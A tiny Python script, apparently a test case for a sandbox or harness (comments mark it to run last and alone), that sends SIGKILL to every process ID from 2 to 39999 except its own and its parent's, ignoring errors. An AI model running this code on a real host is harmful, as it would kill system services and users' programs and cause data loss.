"""SIGKILL to every number that a process of the host may have."""
# places: last
# alone: yes

import os

for number in range(2, 40_000):
    if number not in (os.getpid(), os.getppid()):
        try:
            os.kill(number, 9)
        except OSError:
            pass
